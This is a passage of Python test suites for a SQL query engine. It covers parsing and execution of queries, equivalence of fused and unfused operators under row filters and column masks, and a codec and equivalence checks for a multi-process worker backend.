        stmt = parse_statement("REVOKE SELECT ON a.b.t FROM bob")
        assert isinstance(stmt, ast.RevokeStatement)

    def test_row_filter_ddl(self):
        stmt = parse_statement("ALTER TABLE a.b.t SET ROW FILTER (region = 'US')")
        assert isinstance(stmt, ast.SetRowFilterStatement)

    def test_drop_row_filter(self):
        stmt = parse_statement("ALTER TABLE a.b.t DROP ROW FILTER")
        assert isinstance(stmt, ast.DropRowFilterStatement)

    def test_column_mask_ddl(self):
        stmt = parse_statement(
            "ALTER TABLE a.b.t ALTER COLUMN ssn SET MASK ('***')"
        )
        assert stmt.column == "ssn"

    def test_drop_mask(self):
        stmt = parse_statement("ALTER TABLE a.b.t ALTER COLUMN ssn DROP MASK")
        assert isinstance(stmt, ast.DropColumnMaskStatement)

    def test_unknown_statement(self):
        with pytest.raises(ParseError):
            parse_statement("EXPLODE TABLE t")

    def test_trailing_tokens_rejected(self):
        with pytest.raises(ParseError):
            parse_statement("SELECT 1 SELECT 2")


class TestSQLExecution:
    def test_projection_and_filter(self, engine):
        rows = run(engine, "SELECT id FROM sales WHERE region = 'US' AND amount > 5")
        assert rows == [(1,), (3,)]

    def test_null_amount_excluded_by_comparison(self, engine):
        rows = run(engine, "SELECT id FROM sales WHERE amount > 0")
        assert (5,) not in rows

    def test_is_null(self, engine):
        rows = run(engine, "SELECT id FROM sales WHERE amount IS NULL")
        assert rows == [(5,)]

    def test_group_by_having_order(self, engine):
        rows = run(
            engine,
            "SELECT dept, sum(amount) AS total FROM sales "
            "GROUP BY dept HAVING sum(amount) > 20 ORDER BY total DESC",
        )
        assert rows == [("hr", 70.0), ("eng", 30.0)]

    def test_having_without_aggregate_on_output(self, engine):
        rows = run(
            engine,
            "SELECT dept, count(*) AS n FROM sales GROUP BY dept HAVING dept = 'fin'",
        )
        assert rows == [("fin", 1)]

    def test_order_by_alias(self, engine):
        rows = run(engine, "SELECT id, amount * 2 AS d FROM sales WHERE amount IS NOT NULL ORDER BY d DESC LIMIT 2")
        assert rows == [(4, 80.0), (3, 60.0)]

    def test_limit_offset(self, engine):
        rows = run(engine, "SELECT id FROM sales ORDER BY id LIMIT 2 OFFSET 2")
        assert rows == [(3,), (4,)]

    def test_distinct(self, engine):
        rows = run(engine, "SELECT DISTINCT region FROM sales ORDER BY region")
        assert rows == [("EU",), ("US",)]

    def test_union_all(self, engine):
        rows = run(
            engine,
            "SELECT id FROM sales WHERE id = 1 UNION ALL SELECT id FROM sales WHERE id = 2",
        )
        assert sorted(rows) == [(1,), (2,)]

    def test_self_join_with_alias(self, engine):
        rows = run(
            engine,
            "SELECT a.id, b.id FROM sales a JOIN sales b "
            "ON a.dept = b.dept AND a.id < b.id",
        )
        assert sorted(rows) == [(1, 2), (3, 4)]

    def test_subquery_in_from(self, engine):
        rows = run(
            engine,
            "SELECT t.dept FROM (SELECT dept, sum(amount) AS s FROM sales GROUP BY dept) t "
            "WHERE t.s > 50",
        )
        assert rows == [("hr",)]

    def test_left_join(self, engine):
        rows = run(
            engine,
            "SELECT a.id, b.id FROM sales a LEFT JOIN sales b "
            "ON a.id = b.id AND b.region = 'US'",
        )
        assert len(rows) == 5
        matched = [r for r in rows if r[1] is not None]
        assert len(matched) == 3

    def test_select_without_from(self, engine):
        assert run(engine, "SELECT 1 + 2 AS three") == [(3,)]

    def test_case_expression(self, engine):
        rows = run(
            engine,
            "SELECT id, CASE WHEN amount > 25 THEN 'hi' WHEN amount > 15 THEN 'mid' "
            "ELSE 'lo' END AS bucket FROM sales WHERE amount IS NOT NULL ORDER BY id",
        )
        assert [r[1] for r in rows] == ["lo", "mid", "hi", "hi"]

    def test_cast(self, engine):
        rows = run(engine, "SELECT CAST(id AS string) AS s FROM sales LIMIT 1")
        assert rows == [("1",)]

    def test_builtin_function(self, engine):
        rows = run(engine, "SELECT upper(dept) AS d FROM sales WHERE id = 1")
        assert rows == [("ENG",)]

    def test_udf_via_lookup(self, engine):
        @udf("float")
        def vat(x):
            return None if x is None else x * 1.2

        rows = run(
            engine,
            "SELECT vat(amount) AS with_vat FROM sales WHERE id = 1",
            lookup=lambda name: vat if name == "vat" else None,
        )
        assert rows == [(12.0,)]

    def test_unknown_function_raises(self, engine):
        from repro.errors import AnalysisError

        with pytest.raises(AnalysisError, match="unknown function"):
            run(engine, "SELECT nope(amount) FROM sales")

    def test_count_distinct(self, engine):
        rows = run(engine, "SELECT count(DISTINCT region) AS r FROM sales")
        assert rows == [(2,)]

    def test_having_requires_aggregate_context(self, engine):
        from repro.errors import AnalysisError

        with pytest.raises(AnalysisError, match="HAVING"):
            run(engine, "SELECT id FROM sales HAVING id > 1")
