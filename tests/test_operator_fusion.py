"""Whole-operator fusion: fused pipelines ≡ unfused interpretation.

Pins the tentpole contract of operator codegen — that fusing a
scan→filter→project→aggregate chain (plus sort-key and join-key sinks)
into one generated loop never changes a single byte of output:

- property tests (hypothesis) proving ``CompiledPipeline.accumulate``
  matches :func:`interpret_pipeline` group-for-group and state-for-state,
  over NULL-riddled rows, division by zero, composed filters, multi-key
  groupings, every inlinable aggregate, and empty batches;
- engine-level properties: the same logical plan returns identical rows
  with ``fuse_operators`` on, off, and with compilation disabled entirely;
- governed end-to-end equivalence: FGAC queries (row filters, column
  masks, sandboxed UDFs splitting the chain) return identical rows on
  fused and unfused clusters — on both ``worker_backend="thread"`` and
  ``"process"``;
- partial-state exchange: :func:`pipeline_partial_columns` round-trips
  through pickle to the exact states the interpreter would ship.
"""

from __future__ import annotations

import pickle

import pytest
from hypothesis import given, settings, strategies as st

from repro.connect.client import udf as client_udf
from repro.engine.aggregates import AGGREGATE_FUNCTIONS, AggregateCall
from repro.engine.analyzer import DictResolver
from repro.engine.batch import ColumnBatch, chunk_batch
from repro.engine.compile import (
    KernelCompiler,
    PipelineSpec,
    interpret_pipeline,
    pipeline_partial_columns,
)
from repro.engine.executor import ExecutionConfig, QueryEngine
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    BoundRef,
    Cast,
    Comparison,
    EvalContext,
    IsNull,
    Literal,
    Not,
    SortOrder,
    col,
    lit,
)
from repro.engine.logical import (
    Aggregate,
    Filter,
    Join,
    LocalRelation,
    Project,
    Sort,
    UnresolvedRelation,
)
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.platform import Workspace

SCHEMA = Schema((Field("x", INT), Field("y", FLOAT), Field("s", STRING)))

rows_strategy = st.lists(
    st.tuples(
        st.one_of(st.integers(-50, 50), st.none()),
        st.one_of(
            st.floats(-1e4, 1e4, allow_nan=False, allow_infinity=False), st.none()
        ),
        st.one_of(st.sampled_from(["alpha", "Beta", "g_mm", ""]), st.none()),
    ),
    max_size=40,
)

X = BoundRef(0, "x", INT)
Y = BoundRef(1, "y", FLOAT)
S = BoundRef(2, "s", STRING)

numeric_expr = st.recursive(
    st.one_of(
        st.just(X),
        st.just(Y),
        st.integers(-10, 10).map(Literal),
        st.just(Cast(Literal(None), INT)),
    ),
    lambda inner: st.builds(
        Arithmetic, st.sampled_from(["+", "-", "*", "/", "%"]), inner, inner
    ),
    max_leaves=6,
)

bool_expr = st.recursive(
    st.builds(
        Comparison, st.sampled_from(["=", "!=", "<", "<=", ">", ">="]),
        numeric_expr, numeric_expr,
    ),
    lambda inner: st.one_of(
        st.builds(BooleanOp, st.sampled_from(["AND", "OR"]), inner, inner),
        st.builds(Not, inner),
        st.builds(IsNull, inner),
    ),
    max_leaves=6,
)

grouping_expr = st.one_of(
    st.just(S),
    st.builds(lambda: Arithmetic("%", X, Literal(3))),
    numeric_expr,
)

#: ``(func_name, input_expr_or_None)`` — ``None`` models ``COUNT(*)``.
agg_call = st.one_of(
    st.just(("count", None)),
    st.tuples(
        st.sampled_from(
            ["count", "sum", "min", "max", "avg", "count_distinct"]
        ),
        numeric_expr,
    ),
)


def make_batch(rows) -> ColumnBatch:
    columns = [list(c) for c in zip(*rows)] if rows else [[], [], []]
    return ColumnBatch(SCHEMA, columns)


def _make_spec(cond, groupings, aggs) -> PipelineSpec:
    return PipelineSpec(
        condition=cond,
        groupings=tuple(groupings),
        agg_specs=tuple((name, inp is not None) for name, inp in aggs),
        agg_inputs=tuple(
            inp if inp is not None else Literal(True) for _, inp in aggs
        ),
    )


# ---------------------------------------------------------------------------
# Property: generated pipeline loop ≡ interpreter, state for state
# ---------------------------------------------------------------------------


class TestPipelineEqualsInterpreter:
    @given(
        rows=rows_strategy,
        cond=st.one_of(st.none(), bool_expr),
        groupings=st.lists(grouping_expr, max_size=2),
        aggs=st.lists(agg_call, min_size=1, max_size=3),
        chunk=st.integers(1, 17),
    )
    @settings(max_examples=150, deadline=None)
    def test_accumulate_matches_interpreter(
        self, rows, cond, groupings, aggs, chunk
    ):
        spec = _make_spec(cond, groupings, aggs)
        pipeline = KernelCompiler().compile_pipeline_spec(spec)
        assert pipeline is not None, "no opaque nodes: lowering must succeed"
        ctx = EvalContext(user="alice", groups=frozenset({"analysts"}))
        compiled: dict[tuple, list] = {}
        interpreted: dict[tuple, list] = {}
        cell = [None, None]  # last-key memo persists across batches
        for batch in chunk_batch(make_batch(rows), chunk):
            pipeline.accumulate(batch, ctx, compiled, cell)
            interpret_pipeline(spec, batch, ctx, interpreted)
        # set (generated loop) vs frozenset (algebra) compare equal, every
        # other state is a scalar or tuple: plain == is exact.
        assert compiled == interpreted
        assert list(compiled) == list(interpreted)  # same insertion order

    @given(
        rows=rows_strategy,
        groupings=st.lists(grouping_expr, max_size=2),
        aggs=st.lists(agg_call, min_size=1, max_size=3),
    )
    @settings(max_examples=60, deadline=None)
    def test_partial_columns_round_trip_exact_states(
        self, rows, groupings, aggs
    ):
        spec = _make_spec(None, groupings, aggs)
        pipeline = KernelCompiler().compile_pipeline_spec(spec)
        assert pipeline is not None
        ctx = EvalContext()
        groups: dict[tuple, list] = {}
        pipeline.accumulate(make_batch(rows), ctx, groups, [None, None])
        columns = pipeline_partial_columns(spec, groups)
        assert len(columns) == len(groupings) + len(aggs)
        keys = list(groups)
        for i in range(len(groupings)):
            assert columns[i] == [key[i] for key in keys]
        for j in range(len(aggs)):
            shipped = [pickle.loads(blob) for blob in columns[len(groupings) + j]]
            assert shipped == [groups[key][j] for key in keys]

    def test_null_keys_div_by_zero_and_empty_batches(self):
        """Pinned edge table: the cases fusion must never get wrong."""
        spec = _make_spec(
            Comparison("!=", X, lit(99)),
            (S, Arithmetic("%", X, lit(2))),
            [
                ("count", None),
                ("sum", Arithmetic("/", lit(10), X)),   # x=0 -> NULL, skipped
                ("avg", Y),
                ("count_distinct", S),
            ],
        )
        rows = [
            (None, 1.0, None),     # NULL key components
            (0, None, "alpha"),    # division by zero, NULL avg input
            (4, 2.0, "alpha"),
            (4, 3.0, None),
            (-3, -1.0, ""),        # negative modulo
        ]
        pipeline = KernelCompiler().compile_pipeline_spec(spec)
        assert pipeline is not None
        ctx = EvalContext()
        compiled: dict[tuple, list] = {}
        interpreted: dict[tuple, list] = {}
        cell = [None, None]
        empty = make_batch([])
        for batch in (empty, make_batch(rows), empty):
            pipeline.accumulate(batch, ctx, compiled, cell)
            interpret_pipeline(spec, batch, ctx, interpreted)
        assert compiled == interpreted
        assert compiled  # the data really produced groups

    def test_finalized_values_match_aggregate_algebra(self):
        spec = _make_spec(
            None, (S,), [("sum", Y), ("avg", Y), ("count_distinct", X)]
        )
        rows = [(1, 2.0, "a"), (1, 4.0, "a"), (2, None, "b"), (None, 1.0, "b")]
        pipeline = KernelCompiler().compile_pipeline_spec(spec)
        groups: dict[tuple, list] = {}
        pipeline.accumulate(make_batch(rows), EvalContext(), groups, [None, None])
        funcs = [AGGREGATE_FUNCTIONS[name] for name, _ in spec.agg_specs]
        final = {
            key: tuple(f.final(s) for f, s in zip(funcs, states))
            for key, states in groups.items()
        }
        # NULL x in group "b" is ignored by DISTINCT, like every aggregate.
        assert final == {("a",): (6.0, 3.0, 1), ("b",): (1.0, 1.0, 1)}


# ---------------------------------------------------------------------------
# Engine-level: fused ≡ unfused ≡ interpreted over whole plans
# ---------------------------------------------------------------------------


def _engine(rows, *, compile_enabled=True, fuse=True) -> QueryEngine:
    columns = [list(c) for c in zip(*rows)] if rows else [[], [], []]
    data = LocalRelation(SCHEMA, columns)
    return QueryEngine(
        DictResolver({"t": data}),
        config=ExecutionConfig(
            compile_enabled=compile_enabled, fuse_operators=fuse
        ),
    )


def _three_ways(rows, plan) -> list[list[tuple]]:
    """Rows from the fused, unfused-compiled, and interpreted engines."""
    return [
        _engine(rows, fuse=True).execute(plan).rows(),
        _engine(rows, fuse=False).execute(plan).rows(),
        _engine(rows, compile_enabled=False).execute(plan).rows(),
    ]


class TestEngineFusionEquivalence:
    @given(rows=rows_strategy, threshold=st.integers(-20, 20))
    @settings(max_examples=50, deadline=None)
    def test_aggregation_chain_identical_three_ways(self, rows, threshold):
        g = Alias(Arithmetic("%", col("x"), lit(3)), "g")
        plan = Aggregate(
            Filter(
                UnresolvedRelation("t"),
                Comparison(">", col("x"), lit(threshold)),
            ),
            groupings=(g,),
            aggregates=(
                g,
                AggregateCall("count", None),
                AggregateCall("sum", col("x")),
                AggregateCall("min", col("y")),
                AggregateCall("avg", col("x")),
            ),
        )
        fused, unfused, interpreted = _three_ways(rows, plan)
        assert fused == unfused == interpreted

    @given(rows=rows_strategy)
    @settings(max_examples=50, deadline=None)
    def test_projected_global_aggregate_identical_three_ways(self, rows):
        plan = Aggregate(
            Project(
                Filter(UnresolvedRelation("t"), Not(IsNull(col("x")))),
                (Alias(Arithmetic("*", col("x"), lit(2)), "dx"),),
            ),
            groupings=(),
            aggregates=(
                AggregateCall("count", None),
                AggregateCall("max", col("dx")),
                AggregateCall("count", col("dx"), distinct=True),
            ),
        )
        fused, unfused, interpreted = _three_ways(rows, plan)
        assert fused == unfused == interpreted

    @given(rows=rows_strategy, threshold=st.integers(-20, 20))
    @settings(max_examples=50, deadline=None)
    def test_sort_key_sink_identical_three_ways(self, rows, threshold):
        plan = Sort(
            Project(
                Filter(
                    UnresolvedRelation("t"),
                    BooleanOp(
                        "AND",
                        Comparison(">", col("x"), lit(threshold)),
                        Not(IsNull(col("y"))),
                    ),
                ),
                (Alias(col("x"), "x"), Alias(col("s"), "s")),
            ),
            (SortOrder(Arithmetic("*", col("x"), lit(-1))), SortOrder(col("s"))),
        )
        fused, unfused, interpreted = _three_ways(rows, plan)
        assert fused == unfused == interpreted

    @given(rows=rows_strategy)
    @settings(max_examples=30, deadline=None)
    def test_join_key_sink_identical_three_ways(self, rows):
        base = UnresolvedRelation("t")
        plan = Join(
            Filter(base, Comparison("<", col("x"), lit(10))),
            Project(base, (Alias(col("x"), "x2"), Alias(col("y"), "y2"))),
            how="inner",
            condition=Comparison("=", col("x"), col("x2")),
        )
        fused, unfused, interpreted = _three_ways(rows, plan)
        assert fused == unfused == interpreted  # rows AND probe order

    def test_udf_splits_the_chain_but_results_match(self):
        from repro.engine.udf import udf as engine_udf

        @engine_udf("int")
        def bump(v):
            return (v or 0) + 1

        rows = [(i % 5, float(i), "s") for i in range(23)]
        g = Alias(col("b"), "b")
        plan = Aggregate(
            Project(
                Filter(UnresolvedRelation("t"), Comparison(">=", col("x"), lit(1))),
                (Alias(bump(col("x")), "b"),),
            ),
            groupings=(g,),
            aggregates=(g, AggregateCall("count", None)),
        )
        fused, unfused, interpreted = _three_ways(rows, plan)
        assert fused == unfused == interpreted

    def test_empty_input_identical_three_ways(self):
        plan = Aggregate(
            Filter(UnresolvedRelation("t"), Comparison(">", col("x"), lit(0))),
            groupings=(),
            aggregates=(
                AggregateCall("count", None),
                AggregateCall("sum", col("y")),
            ),
        )
        fused, unfused, interpreted = _three_ways([], plan)
        assert fused == unfused == interpreted == [(0, None)]


# ---------------------------------------------------------------------------
# Governed end-to-end, on both worker backends
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module", params=["thread", "process"])
def fusion_clusters(request):
    """Fused, unfused, and fully interpreted clusters over one governed
    catalog, one trio per worker backend."""
    backend = request.param
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("carol")
    ws.add_group("analysts", ["alice", "carol"])
    ws.add_group("hr", ["carol"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.sales", owner="admin")
    fused = ws.create_standard_cluster(
        name=f"fused-{backend}",
        worker_backend=backend,
        num_executors=2,
        engine_fuse_operators=True,
    )
    unfused = ws.create_standard_cluster(
        name=f"unfused-{backend}",
        worker_backend=backend,
        num_executors=2,
        engine_fuse_operators=False,
    )
    interpreted = ws.create_standard_cluster(
        name=f"interpreted-{backend}",
        worker_backend=backend,
        num_executors=2,
        engine_compile=False,
    )
    admin = fused.connect("admin")
    admin.sql(
        "CREATE TABLE main.sales.orders "
        "(id int, region string, amount float, buyer string)"
    )
    admin.sql(
        "INSERT INTO main.sales.orders VALUES "
        "(1,'US',10.5,'p1'),(2,'EU',20.0,'p2'),(3,'US',30.0,'alice'),"
        "(4,'APAC',40.0,'carol'),(5,NULL,50.0,'p5'),(6,'EU',NULL,'p6')"
    )
    admin.sql("CREATE TABLE main.sales.regions (region string, zone int)")
    admin.sql(
        "INSERT INTO main.sales.regions VALUES ('US',1),('EU',2),('APAC',3)"
    )
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
    admin.sql("GRANT SELECT ON main.sales.orders TO analysts")
    admin.sql("GRANT SELECT ON main.sales.regions TO analysts")
    admin.sql(
        "ALTER TABLE main.sales.orders SET ROW FILTER "
        "(region = 'US' OR is_account_group_member('hr'))"
    )
    admin.sql(
        "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK "
        "(CASE WHEN is_account_group_member('hr') THEN buyer ELSE '***' END)"
    )
    yield fused, unfused, interpreted
    ws.shutdown()


GOVERNED_QUERIES = [
    # grouped aggregation under a row filter (NULL region for carol)
    "SELECT region, count(*) AS n, sum(amount) AS s, min(amount) AS lo, "
    "max(amount) AS hi FROM main.sales.orders GROUP BY region ORDER BY region",
    # global aggregate, empty grouping
    "SELECT count(*) AS n, avg(amount) AS a, count(DISTINCT region) AS r "
    "FROM main.sales.orders",
    # empty result set after the filter
    "SELECT region, count(*) AS n FROM main.sales.orders "
    "WHERE amount > 1000.0 GROUP BY region",
    # division by zero inside the fused chain -> NULL, never an error
    "SELECT id, amount / (id - id) AS z FROM main.sales.orders ORDER BY id",
    # aggregate over the masked column: policy expressions ride the pipeline
    "SELECT count(DISTINCT buyer) AS b FROM main.sales.orders",
    # sort-key sink over a filtered projection
    "SELECT id, amount * -1.0 AS neg FROM main.sales.orders "
    "WHERE amount IS NOT NULL ORDER BY neg, id",
    # join-key sink across two governed tables
    "SELECT o.id, r.zone FROM main.sales.orders o "
    "JOIN main.sales.regions r ON o.region = r.region ORDER BY o.id",
]


class TestGovernedFusionEquivalence:
    @pytest.mark.parametrize("query", GOVERNED_QUERIES)
    def test_rows_identical_fused_unfused_interpreted(
        self, fusion_clusters, query
    ):
        fused, unfused, interpreted = fusion_clusters
        for user in ("alice", "carol"):
            results = [
                cluster.connect(user).sql(query).collect()
                for cluster in (fused, unfused, interpreted)
            ]
            assert results[0] == results[1] == results[2]

    def test_policies_bite_identically_when_fused(self, fusion_clusters):
        fused, _, _ = fusion_clusters
        query = (
            "SELECT region, count(*) AS n FROM main.sales.orders "
            "GROUP BY region ORDER BY region"
        )
        alice = fused.connect("alice").sql(query).collect()
        carol = fused.connect("carol").sql(query).collect()
        assert alice == [("US", 2)]          # row filter applied inside the loop
        assert len(carol) == 4               # hr sees every region, NULL first

    def test_udf_split_chain_matches_across_clusters(self, fusion_clusters):
        @client_udf("float")
        def with_tax(amount):
            return amount * 1.19 if amount is not None else -1.0

        query = (
            "SELECT region, sum(with_tax(amount)) AS gross "
            "FROM main.sales.orders WHERE id >= 1 "
            "GROUP BY region ORDER BY region"
        )
        results = []
        for cluster in fusion_clusters:
            client = cluster.connect("carol")
            client.register_udf(with_tax)
            results.append(client.sql(query).collect())
        assert results[0] == results[1] == results[2]
        assert len(results[0]) == 4  # the UDF really ran over governed rows

    def test_fusion_counters_tick_only_on_the_fused_cluster(
        self, fusion_clusters
    ):
        fused, unfused, _ = fusion_clusters
        query = (
            "SELECT region, count(*) AS n FROM main.sales.orders "
            "GROUP BY region ORDER BY region"
        )
        fused.connect("alice").sql(query).collect()
        unfused.connect("alice").sql(query).collect()
        assert fused.backend.kernel_cache.stats.fusion_hits > 0
        assert unfused.backend.kernel_cache.stats.fusion_hits == 0
        assert unfused.backend.kernel_cache.stats.fusion_misses == 0

    def test_fusion_counters_and_source_lines_reach_system_table(
        self, fusion_clusters
    ):
        fused, _, _ = fusion_clusters
        fused.connect("alice").sql(
            "SELECT region, count(*) AS n FROM main.sales.orders "
            "GROUP BY region"
        ).collect()
        rows = fused.connect("admin").sql(
            "SELECT cache, metric, value FROM system.access.cache_stats"
        ).collect()
        cache_name = f"kernel_cache[{fused.name}]"
        metrics = {r[1]: r[2] for r in rows if r[0] == cache_name}
        assert metrics["fusion_hits"] >= 1
        assert "fusion_misses" in metrics
        assert metrics["source_lines"] > 0


# ---------------------------------------------------------------------------
# Debug knob: generated sources dumped to disk
# ---------------------------------------------------------------------------


class TestDumpKernels:
    def test_dump_knob_writes_pipeline_source(self, tmp_path, monkeypatch):
        from repro.engine.compile import ENV_DUMP_KERNELS

        monkeypatch.setenv(ENV_DUMP_KERNELS, str(tmp_path / "kernels"))
        spec = _make_spec(
            Comparison(">", X, lit(0)), (S,), [("sum", Y), ("count", None)]
        )
        pipeline = KernelCompiler().compile_pipeline_spec(spec)
        assert pipeline is not None
        dumps = list((tmp_path / "kernels").glob("kernel_*.py"))
        assert len(dumps) == 1
        assert dumps[0].read_text() == pipeline.artifact.source + "\n"

    def test_dump_knob_failure_never_fails_compilation(self, monkeypatch):
        from repro.engine.compile import ENV_DUMP_KERNELS

        # A file path where a directory is needed: mkdir raises, compile
        # must still succeed (the knob is best effort).
        monkeypatch.setenv(ENV_DUMP_KERNELS, "/dev/null/nope")
        spec = _make_spec(None, (S,), [("count", None)])
        assert KernelCompiler().compile_pipeline_spec(spec) is not None
