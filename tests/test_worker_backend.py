"""The multi-process execution backend: equivalence, codec, chaos, leaks.

The contract under test is that ``worker_backend="process"`` is an invisible
substitution for the default thread backend: every query — projections,
filters, joins, aggregates, NULL-heavy data, per-user masks and row filters,
sandboxed UDFs — returns identical rows, fault schedules fire
deterministically inside workers, and no shared-memory segment outlives its
query. The shmbuf codec itself is property-tested for lossless round-trips.
"""

from __future__ import annotations

import itertools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.common import shmbuf
from repro.common.faults import FaultSpec
from repro.connect.client import udf as client_udf
from repro.engine.batch import ColumnBatch
from repro.engine.types import STRING, Field, Schema
from repro.engine.udf import udf
from repro.errors import PermissionDenied
from repro.platform import Workspace
from repro.sandbox.subprocess_sandbox import SubprocessSandbox


# ---------------------------------------------------------------------------
# shmbuf codec: lossless round trips
# ---------------------------------------------------------------------------

_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.text(max_size=20),
    st.binary(max_size=20),
)


@st.composite
def _columns(draw):
    num_rows = draw(st.integers(min_value=0, max_value=16))
    num_cols = draw(st.integers(min_value=1, max_value=4))
    return [
        draw(st.lists(_scalar, min_size=num_rows, max_size=num_rows))
        for _ in range(num_cols)
    ]


class TestBufferCodec:
    @given(_columns())
    @settings(max_examples=120, deadline=None)
    def test_encode_decode_round_trip_is_lossless(self, columns):
        meta, payload = shmbuf.encode_columns(columns)
        decoded = shmbuf.decode_columns(meta, payload)
        assert decoded == columns
        # Exact Python types survive (bool vs int, int vs float, str vs bytes).
        for col, out in zip(columns, decoded):
            for a, b in zip(col, out):
                assert type(a) is type(b)

    @given(_columns())
    @settings(max_examples=60, deadline=None)
    def test_zero_copy_views_match_materialized(self, columns):
        meta, payload = shmbuf.encode_columns(columns)
        views = shmbuf.decode_columns(meta, payload, zero_copy=True)
        for col, view in zip(columns, views):
            assert list(view) == col
            if hasattr(view, "to_list"):
                assert view.to_list() == col

    @given(_columns())
    @settings(max_examples=60, deadline=None)
    def test_column_batch_round_trip_through_segment(self, columns):
        schema = Schema(
            tuple(Field(f"c{i}", STRING) for i in range(len(columns)))
        )
        batch = ColumnBatch(schema, columns)
        meta, payload = batch.to_buffers()
        segment = shmbuf.create_segment(payload)
        try:
            back = ColumnBatch.from_buffers(
                schema, meta, segment.buf, zero_copy=True
            ).materialize()
        finally:
            shmbuf.release_segment(segment)
        assert [list(c) for c in back.columns] == columns
        assert back.num_rows == batch.num_rows

    def test_homogeneous_columns_never_hit_pickle_fallback(self):
        meta, _ = shmbuf.encode_columns(
            [[1, 2, None], [1.5, None, 2.5], ["a", "b", None], [True, False, None]]
        )
        assert meta["pickled_bytes"] == 0


# ---------------------------------------------------------------------------
# Thread ≡ process backend over full queries
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def dual_backend():
    """One workspace, same governed data, one cluster per backend."""
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    ws.add_user("carol")
    ws.add_group("analysts", ["alice", "carol"])
    ws.add_group("hr", ["carol"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.sales", owner="admin")
    thread = ws.create_standard_cluster(
        name="thread-backend", worker_backend="thread", num_executors=2
    )
    process = ws.create_standard_cluster(
        name="process-backend", worker_backend="process", num_executors=2
    )
    admin = thread.connect("admin")
    admin.sql(
        "CREATE TABLE main.sales.orders "
        "(id int, region string, amount float, buyer string)"
    )
    admin.sql(
        "INSERT INTO main.sales.orders VALUES "
        "(1,'US',10.5,'p1'),(2,'EU',20.0,'p2'),(3,'US',30.0,'alice'),"
        "(4,'APAC',40.0,'carol'),(5,NULL,50.0,'p5'),(6,'EU',NULL,'p6')"
    )
    admin.sql("CREATE TABLE main.sales.regions (region string, zone int)")
    admin.sql(
        "INSERT INTO main.sales.regions VALUES ('US',1),('EU',2),('APAC',3)"
    )
    for table in ("orders", "regions"):
        admin.sql("GRANT USE CATALOG ON main TO analysts")
        admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
        admin.sql(f"GRANT SELECT ON main.sales.{table} TO analysts")
    yield ws, thread, process
    ws.shutdown()


def _both(dual, user, query):
    _, thread, process = dual
    return (
        thread.connect(user).sql(query).collect(),
        process.connect(user).sql(query).collect(),
    )


EQUIVALENCE_QUERIES = [
    "SELECT id, amount FROM main.sales.orders ORDER BY id",
    "SELECT id, amount * 2 AS a2, region FROM main.sales.orders ORDER BY id",
    "SELECT id FROM main.sales.orders WHERE amount > 15.0 ORDER BY id",
    "SELECT id, buyer FROM main.sales.orders "
    "WHERE region = 'EU' OR region IS NULL ORDER BY id",
    "SELECT region, count(*) AS n, sum(amount) AS s "
    "FROM main.sales.orders GROUP BY region ORDER BY region",
    "SELECT o.id, r.zone FROM main.sales.orders o "
    "JOIN main.sales.regions r ON o.region = r.region ORDER BY o.id",
    "SELECT count(*) AS n FROM main.sales.orders",
]


class TestBackendEquivalence:
    @pytest.mark.parametrize("query", EQUIVALENCE_QUERIES)
    def test_same_rows_on_both_backends(self, dual_backend, query):
        thread_rows, process_rows = _both(dual_backend, "alice", query)
        assert thread_rows == process_rows

    def test_masks_and_row_filters_apply_per_user(self, dual_backend):
        ws, thread, process = dual_backend
        admin = thread.connect("admin")
        admin.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK "
            "(CASE WHEN is_account_group_member('hr') THEN buyer ELSE '***' END)"
        )
        admin.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR is_account_group_member('hr'))"
        )
        try:
            query = "SELECT id, region, buyer FROM main.sales.orders ORDER BY id"
            for user in ("alice", "carol"):
                thread_rows, process_rows = _both(dual_backend, user, query)
                assert thread_rows == process_rows
            # The policies bite: alice is filtered+masked, carol is not.
            alice_rows = process.connect("alice").sql(query).collect()
            carol_rows = process.connect("carol").sql(query).collect()
            assert {r[1] for r in alice_rows} == {"US"}
            assert all(r[2] == "***" for r in alice_rows)
            assert len(carol_rows) == 6
        finally:
            admin.sql("ALTER TABLE main.sales.orders DROP ROW FILTER")
            admin.sql("ALTER TABLE main.sales.orders ALTER COLUMN buyer DROP MASK")

    def test_sandboxed_udf_matches_across_backends(self, dual_backend):
        @client_udf("float")
        def with_tax(amount):
            return amount * 1.19 if amount is not None else -1.0

        query = "SELECT id, with_tax(amount) AS gross FROM main.sales.orders ORDER BY id"
        _, thread, process = dual_backend
        rows = []
        for cluster in (thread, process):
            client = cluster.connect("alice")
            client.register_udf(with_tax)
            rows.append(client.sql(query).collect())
        assert rows[0] == rows[1]
        assert len(rows[0]) == 6

    _table_seq = itertools.count()

    @given(
        rows=st.lists(
            st.tuples(
                st.integers(min_value=-1000, max_value=1000),
                st.one_of(st.none(), st.sampled_from(["US", "EU", "APAC", ""])),
                st.one_of(
                    st.none(),
                    st.floats(
                        min_value=-1e6, max_value=1e6, allow_nan=False
                    ),
                ),
            ),
            min_size=0,
            max_size=12,
        )
    )
    @settings(
        max_examples=10,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    def test_generated_data_equivalence(self, dual_backend, rows):
        """Arbitrary NULL-heavy data: both backends agree on a query battery."""
        ws, thread, process = dual_backend
        table = f"main.sales.gen{next(self._table_seq)}"
        admin = thread.connect("admin")
        admin.sql(f"CREATE TABLE {table} (id int, region string, amount float)")
        if rows:
            values = ",".join(
                "({},{},{})".format(
                    i,
                    "NULL" if r is None else f"'{r}'",
